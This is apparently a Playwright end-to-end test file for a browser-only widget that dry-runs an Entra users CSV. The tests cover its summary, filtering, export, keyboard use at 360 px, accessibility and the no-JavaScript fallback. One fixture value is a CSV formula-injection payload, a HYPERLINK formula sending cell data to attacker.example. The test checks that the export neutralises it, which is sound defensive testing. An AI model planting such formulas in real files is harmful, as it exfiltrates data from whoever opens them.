/**
 * The provisioning dry run on Start provisioning, in Chromium: pick or drop the users download,
 * read the summary, filter, export the problem list, keyboard only, axe in both themes, 360 px,
 * and no request carries anything from the file.
 */
import { readFileSync } from 'node:fs';
import { expect as baseExpect, test, type Page } from '@playwright/test';
import Papa from 'papaparse';
import { DOMAIN, fixturePath } from '../unit/exports/fixtures';
import {
  chooseFileWithKeyboard,
  expectNoSidewaysScroll,
  expectWidgetFits,
  openWidget,
  expectNothingSent,
  expectNothingStored,
  recordRequests,
  tabTo,
} from './support/file-checks';
import { expectNoAxeViolationsInBothThemes } from './support/a11y';

const PAGE = '/start-provisioning/';
const WIDGET = 'section[aria-label="Provisioning dry run"]';
const FILE = 'exportUsers_2026-11-30.csv';
/** Values that exist only in the fixture file: none may appear in a request or in storage. */
const FILE_VALUES = [DOMAIN, 'Ångström', 'Siobhán', 'HYPERLINK'];

// The machine running these may be busy; these waits are for results to appear, not timings.
const expect = baseExpect.configure({ timeout: 15_000 });
test.describe.configure({ timeout: 90_000 });

const openDryRun = (page: Page) =>
  openWidget(page, PAGE, 'Provisioning dry run', 'Users file (.csv)');

test('a users download: summary, filter, export, and nothing leaves the page', async ({
  page,
  baseURL,
}) => {
  const { widget, input } = await openDryRun(page);
  const requests = recordRequests(page);
  await input.setInputFiles(fixturePath(FILE));

  await expect(widget.getByRole('status').first()).toHaveText(`Checked ${FILE}: 12 users.`);
  const counts = widget.locator('.aiq-x__counts');
  // The report's styles came with the report (one stylesheet, after the file was chosen) and apply.
  expect(requests.filter((request) => /\/report\.[\w-]+\.css$/.test(request.url()))).toHaveLength(
    1,
  );
  await expect(counts).toHaveCSS('display', 'flex');
  await expect(counts).toContainText('4 users would be created without problems');
  await expect(counts).toContainText('6 users need a fix before you start');
  await expect(counts).toContainText('1 user to check');
  await expect(counts).toContainText('1 user is disabled: Entra skips them');
  const reasons = widget.getByRole('list', { name: 'Problems by reason' });
  await expect(reasons).toContainText('User has no email address (mail is empty): 3 users');
  await expect(reasons).toContainText('Email address shared by several users: 2 users');

  // Names in any script, quoted commas and quotes, and formula-looking text arrive unchanged, as text.
  const table = widget.getByRole('table');
  for (const name of ['Zoë Ångström', '李 伟', 'O\'Connor, Siobhán "Shiv"'])
    await expect(
      table.getByRole('rowheader', {
        name: new RegExp(`^${name.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')}`),
      }),
    ).toHaveCount(1);
  await expect(table).toContainText('=HYPERLINK("https://attacker.example/?d="&A1,"Marek Nowak")');
  await expect(table.locator('tbody tr')).toHaveCount(12);

  // The request Entra would send, from the attribute mapping checker's mapping.
  const zoe = table.locator('tbody tr', { hasText: 'Zoë Ångström' });
  await zoe.getByText('Request').click();
  await expect(zoe.locator('pre')).toContainText('"familyName": "Ångström"');
  await expect(zoe.locator('pre')).toContainText('"externalId": "<value of [mailNickname]>"');

  // Filter from the summary, then by search.
  await reasons.getByRole('button', { name: /^Show these users\W+Email address shared/ }).click();
  await expect(widget.getByRole('heading', { name: 'Users' })).toBeFocused();
  await expect(table.locator('tbody tr')).toHaveCount(2);
  await expect(widget.getByText('Showing 2 of 2 matching users')).toBeVisible();
  await widget.getByLabel('Show', { exact: true }).selectOption('all');
  await widget.getByLabel('Find a user').fill('tomás');
  await expect(table.locator('tbody tr')).toHaveCount(1);
  await expect(table.locator('tbody tr')).toContainText('tomas.vidal@');

  // Export: the problem list, with the formula neutralised and the names intact.
  const [download] = await Promise.all([
    page.waitForEvent('download'),
    widget.getByRole('button', { name: 'Download the problem list (CSV)' }).click(),
  ]);
  expect(download.suggestedFilename()).toBe('apartmentiq-dry-run-problems.csv');
  const saved = readFileSync(await download.path(), 'utf8');
  expect(saved.startsWith('\uFEFF')).toBe(true);
  const rows = Papa.parse<string[]>(saved.slice(1), { skipEmptyLines: true }).data;
  expect(rows[0]?.slice(0, 5)).toEqual([
    'userPrincipalName',
    'displayName',
    'mail',
    'severity',
    'code',
  ]);
  expect(rows.map((row) => row[1])).toContain('Tomás Vidal');
  expect(rows.filter((row) => row[0]?.startsWith('marek.nowak@')).map((row) => row[1])).toEqual([
    '\'=HYPERLINK("https://attacker.example/?d="&A1,"Marek Nowak")',
  ]);
  expect(rows.find((row) => row[4] === 'dry-run-disabled')?.[8]).toBe(
    `${baseURL}/troubleshooting/#dry-run-disabled`,
  );

  expectNothingSent(requests, baseURL ?? '', FILE_VALUES);
  await expectNothingStored(page, FILE_VALUES);
  await expectNoAxeViolationsInBothThemes(page, WIDGET);
});

test('keyboard only at 360 px: pick a file, read what is missing, filter, export', async ({
  page,
}) => {
  await page.setViewportSize({ width: 360, height: 740 });
  const { widget, input } = await openDryRun(page);

  // A Preview download with the default view: the missing columns are named once.
  await tabTo(page, input);
  await chooseFileWithKeyboard(page, fixturePath('exportUsers_preview-default-view.csv'));
  await expect(
    widget.getByText(/This file has no mail, givenName, surname, accountEnabled columns/),
  ).toBeVisible();
  await expect(widget.locator('.aiq-x__counts')).toContainText(
    'with no problem in the columns this file has',
  );

  // Not a users download: said plainly, with its code.
  await input.focus();
  await chooseFileWithKeyboard(page, fixturePath('bulk-create-template.csv'));
  const alert = widget.getByRole('alert');
  await expect(alert).toContainText('the template Entra offers for creating users in bulk');
  await expect(alert.getByRole('link', { name: /How to fix/ })).toHaveAttribute(
    'href',
    '/troubleshooting/#users-file-bulk-template',
  );

  // The full download; then filter to one reason and save the list, keys only.
  await input.focus();
  await chooseFileWithKeyboard(page, fixturePath(FILE));
  await expect(widget.locator('.aiq-x__counts')).toContainText('6 users need a fix');
  const showDisabled = widget.getByRole('button', {
    name: /^Show these users\W+Account is disabled/,
  });
  await tabTo(page, showDisabled);
  await page.keyboard.press('Enter');
  await expect(widget.getByRole('heading', { name: 'Users' })).toBeFocused();
  await expect(widget.getByRole('table').locator('tbody tr')).toHaveCount(1);
  await expect(widget.getByRole('table')).toContainText('former.tenant@');

  const filter = widget.getByLabel('Show', { exact: true });
  await tabTo(page, filter);
  await page.keyboard.press('Home');
  await expect(filter).toHaveValue('all');
  await expect(widget.getByRole('table').locator('tbody tr')).toHaveCount(12);

  // At 360 px the table is a list in its own box; the page does not scroll sideways.
  await expectWidgetFits(page, WIDGET);
  await expectNoSidewaysScroll(page);
  const scroller = widget.locator('.aiq-x__scroll');
  await tabTo(page, scroller);
  await page.keyboard.press('ArrowRight');

  const save = widget.getByRole('button', { name: 'Download the problem list (CSV)' });
  await save.focus();
  const [download] = await Promise.all([
    page.waitForEvent('download'),
    page.keyboard.press('Enter'),
  ]);
  expect(download.suggestedFilename()).toBe('apartmentiq-dry-run-problems.csv');
});

test.describe('with JavaScript off', () => {
  test.use({ javaScriptEnabled: false });
  test('each widget ships a fallback that says what to check by hand', async ({ page }) => {
    // The browser still parses <noscript> as text here, so its text is read rather than seen.
    await page.goto(PAGE);
    const dryRun = page.locator(WIDGET);
    expect(await dryRun.locator('noscript').textContent()).toContain(
      'open the file in a spreadsheet and check by hand',
    );
    await expect(dryRun.getByLabel('Users file (.csv)')).toBeDisabled();
    await page.goto('/troubleshooting/');
    const doctor = page.locator('section[aria-label="Provisioning-log doctor"]');
    expect(await doctor.locator('noscript').textContent()).toContain(
      'The log doctor needs JavaScript',
    );
    await expect(doctor.getByLabel('Provisioning-log file (.json)')).toBeDisabled();
  });
});
